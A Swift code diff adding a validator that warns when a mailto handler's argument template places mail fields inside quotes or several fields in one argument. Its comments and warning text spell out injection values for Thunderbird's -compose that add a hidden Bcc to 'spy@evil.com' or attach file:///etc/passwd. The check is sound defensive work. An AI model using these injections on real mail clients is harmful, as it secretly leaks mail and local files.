@@ -20,6 +20,40 @@ public enum Template {
         names(in: template).filter { !placeholders.contains($0) }
     }
 
+    /// The placeholders that take a mailto's fields.
+    public static let mailFields: [String] = ["to", "cc", "bcc", "subject", "body"]
+
+    /// Why an argv template is unsafe for mail fields, or nil: a mail field inside a quoted
+    /// argument (`to='{to}'`) or beside another in one argument (`to={to},subject={subject}`).
+    /// A value from the link can close the quote or hold the separator, and add fields of the
+    /// program's own syntax: with Thunderbird's `-compose`, `?subject=x',bcc='spy@evil.com`
+    /// adds a hidden Bcc and `?body=x',attachment='file:///etc/passwd` attaches a local file.
+    public static func spliceProblem(in template: String) -> String? {
+        var quote: Character?
+        var fields: [String] = []
+        var quoted: String?
+        var rest = Substring(template)
+        while let next = rest.first {
+            if next == "{", let close = rest.firstIndex(of: "}") {
+                let name = String(rest[rest.index(after: rest.startIndex)..<close])
+                if mailFields.contains(name) {
+                    fields.append(name)
+                    if quote != nil, quoted == nil { quoted = name }
+                }
+                rest = rest[rest.index(after: close)...]
+                continue
+            }
+            if next == "'" || next == "\"" { quote = quote == nil ? next : (quote == next ? nil : quote) }
+            rest = rest.dropFirst()
+        }
+        let advice = "a link can end the quote or hold the separator and add fields of the program's own syntax "
+            + "(with Thunderbird's -compose, mailto:a@b.com?subject=x',bcc='spy@evil.com adds a hidden Bcc); "
+            + "use a built-in mail target (open = \"thunderbird\", openurl apps mailto lists them) or pass {url} as an argument of its own"
+        if let quoted { return "{\(quoted)} is inside a quoted argument: " + advice }
+        if fields.count > 1 { return "{\(fields[0])} and {\(fields[1])} share one argument: " + advice }
+        return nil
+    }
+
     /// Whether `template` uses any known placeholder (`{url}`, `{to}`, ...).
     public static func usesPlaceholder(_ template: String) -> Bool {
         // Asked on every launch of an app: byte slices, no array of names.
